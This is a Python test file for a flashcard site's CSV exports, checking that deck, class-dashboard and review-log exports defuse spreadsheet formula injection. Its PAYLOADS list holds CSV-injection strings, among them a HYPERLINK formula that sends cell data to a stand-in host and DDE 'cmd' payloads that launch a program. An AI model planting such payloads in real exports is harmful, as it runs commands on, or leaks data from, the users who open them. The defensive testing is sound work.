"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection).

Every CSV the site writes goes through `studysite.exports.csv_writer`: text
cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
get a single quote in front; numbers are data and stay as they are. The deck
CSV still imports back to the same notes.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flashcards import csvio, interop, services
from flashcards.models import Deck, Note
from studysite.exports import FORMULA_STARTS, csv_cell, csv_text
from studysite.storable import repaired
from tests.factories import UserFactory
from tests.lessons.classes_factories import SchoolClassFactory, enroll
from tests.lessons.progress_factories import make_deck, review

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")


def _formula(cell: str) -> bool:
    """Whether a spreadsheet would run the cell (a plain number it reads as one)."""
    return cell[:1] in FORMULA_STARTS and not PLAIN_NUMBER.fullmatch(cell)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- the cell rule ------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_in_front(payload):
    assert csv_cell(payload) == "'" + payload
    assert csv_text(csv_cell(payload)) == payload


@pytest.mark.parametrize(
    "number", [-1, -0.25, 3, 1.5e-9, "-1", "-0.25", "+3", "-1e-05", "12", "-.5"]
)
def test_numbers_are_data_and_stay_as_they_are(number):
    assert csv_cell(number) == number


# Any text, lone surrogates, NUL and the formula characters included.
TEXT = st.text(
    alphabet=st.one_of(
        st.characters(),
        st.characters(categories=["Cs"]),
        st.sampled_from("\x00=+-@\t\r'0123456789.e"),
    )
)


@settings(max_examples=500)
@given(TEXT)
def test_no_text_cell_starts_a_formula_unless_a_number_and_each_reads_back(text):
    cell = csv_cell(text)
    assert not _formula(cell)
    assert csv_text(cell) == repaired(text)
    cell.encode("utf-8")  # a response can always be sent


# --- the deck CSV -------------------------------------------------------------------


@pytest.mark.django_db
def test_the_deck_csv_neutralises_formulas_in_fields_and_tags_and_imports_back():
    owner = UserFactory()
    deck = services.deck_create(owner=owner, title="Payloads")
    for payload in PAYLOADS:
        services.note_create(
            deck=deck,
            type="basic",
            fields={"front": payload, "back": "'" + payload},
            tags=["-x", "@home"],
        )
    services.note_create(
        deck=deck, type="numeric", fields={"question": "-1 - 1?", "answer": "-2"}
    )
    text = interop.deck_export_csv(deck=deck)
    rows = _cells(text)
    assert rows[0] == ["type", "front", "back", "tags", "fields"]
    for row in rows[1:]:
        assert not any(_formula(cell) for cell in row), row
    assert rows[-1][2] == "-2"  # a number stays a number

    job = interop.import_job_create(
        owner=owner, filename="payloads.csv", data=text.encode("utf-8")
    )
    interop.import_job_map(
        job=job,
        columns={"type": 0, "front": 1, "back": 2, "tags": 3},
        header=True,
    )
    interop.import_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == job.Status.SUCCEEDED, job.error
    imported = Deck.objects.get(pk=job.deck_id)
    want = [(n.type, n.fields, n.tags) for n in deck.notes.order_by("id")]
    got = [
        (n.type, n.fields, n.tags)
        for n in Note.objects.filter(deck=imported).order_by("id")
    ]
    assert got == want


def test_a_quoted_cell_of_another_tool_reads_as_its_text():
    rows = csvio.read_rows("front,back\n'=1+1,plain\n", ",")
    notes, errors = csvio.rows_to_notes(
        rows, columns={"front": 0, "back": 1}, header=True
    )
    assert errors == [] and notes[0].fields == {"front": "=1+1", "back": "plain"}


# --- the class dashboard ------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_the_class_dashboard_csv_neutralises_usernames_and_names(
    teacher, teacher_api, payload
):
    school_class = SchoolClassFactory(teacher=teacher, name="Tuesday")
    sneaky = UserFactory(username=payload[:30].replace(" ", "_"), first_name=payload)
    enroll(school_class, sneaky)
    response = teacher_api.get(f"/api/v1/classes/{school_class.pk}/dashboard.csv")
    assert response.status_code == 200
    rows = _cells(response.content.decode("utf-8"))
    for row in rows:
        assert not any(_formula(cell) for cell in row), row
    by_id = {row[0]: row for row in rows[1:]}
    assert csv_text(by_id[str(sneaky.pk)][1]) == sneaky.username


# --- the review log -----------------------------------------------------------------


@pytest.mark.django_db
def test_the_review_log_is_numbers_written_as_before(learner, learner_api):
    """The FSRS optimizer layout: every cell a number, byte for byte what the
    plain csv module writes (a -1 or a 0 duration untouched)."""
    deck, cards = make_deck(learner, 2)
    at = datetime(2026, 3, 1, 12, tzinfo=UTC)
    for index, card in enumerate(cards):
        review(learner, card, at=at + timedelta(minutes=index), rating=1 + index)
    response = learner_api.get("/api/v1/reviews/export.csv")
    assert response.status_code == 200
    from flashcards.models import ReviewLog

    expected = io.StringIO()
    plain = csv.writer(expected, lineterminator="\n")
    plain.writerow(
        ["card_id", "review_time", "review_rating", "review_state", "review_duration"]
    )
    epoch = datetime(1970, 1, 1, tzinfo=UTC)
    for log in ReviewLog.objects.filter(learner=learner).order_by(
        "card_id", "reviewed_at", "id"
    ):
        plain.writerow(
            [
                log.card_id,
                (log.reviewed_at - epoch) // timedelta(milliseconds=1),
                log.rating,
                log.review_state,
                log.duration_ms or 0,
            ]
        )
    assert response.content.decode("utf-8") == expected.getvalue()
    assert csv_cell(-1) == -1


def test_a_demo_result_csv_goes_through_the_one_safe_writer():
    from workers.exports import result_csv

    text = result_csv(
        {
            "tables": [
                {
                    "title": "t",
                    "columns": ["a", "b"],
                    "rows": [["=1+1", -2.5], [3, "x"]],
                }
            ]
        }
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[2] == ["'=1+1", "-2.5"]  # a formula is text; a number stays a number
    assert "\r" not in text  # every CSV of the site ends its rows with "\n" alone
